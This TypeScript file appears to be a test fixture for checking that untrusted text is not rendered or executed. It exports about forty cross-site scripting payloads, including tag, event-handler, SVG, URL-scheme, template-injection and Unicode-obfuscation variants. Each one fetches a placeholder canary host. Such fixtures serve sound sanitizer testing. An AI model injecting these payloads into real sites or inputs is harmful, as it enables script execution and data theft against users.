/** Sent by whatever runs; nobody listens there, and the browser that asks has given itself away. */
export const canary = 'http://canary.invalid/'

const run = `window.__hit=1;fetch('${canary}')`
const zero = '\u200b\u200d\ufeff'

/**
 * Forty texts that would run something, or show something that is not there, if they were taken for more than text.
 * Each does the same when it runs: sets a mark and asks for an address.
 */
export const payloads: readonly string[] = [
  // markup
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `<script src=${canary}x.js></script>`,
  `<script type=module>${run}</script>`,
  // handlers
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}//`,
  `" onmouseover="${run}" x="`,
  `' autofocus onfocus='${run}' x='`,
  `<body onload="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<marquee onstart="${run}">x</marquee>`,
  `<div style="animation-name:x" onanimationstart="${run}">`,
  // other languages inside
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror="${run}"></mtext></math>`,
  `<style>@import url(${canary});</style>`,
  `<link rel=stylesheet href=${canary}>`,
  `<base href="${canary}">`,
  `<meta http-equiv=refresh content="0;url=${canary}">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="${canary}"></object>`,
  // addresses
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  ` \tjava\nscript:${run}`.replace(/[\t\n]/g, ''),
  // templates
  `{{constructor.constructor("${run}")()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  // what the eye takes for something else
  `\u202egnp.exe\u202c <img src=x onerror="${run}">`,
  `${zero}<img${zero} src=x onerror="${run}">${zero}`,
  `${'very-long-without-a-break-'.repeat(3)}<img src=x onerror="${run}">`,
]
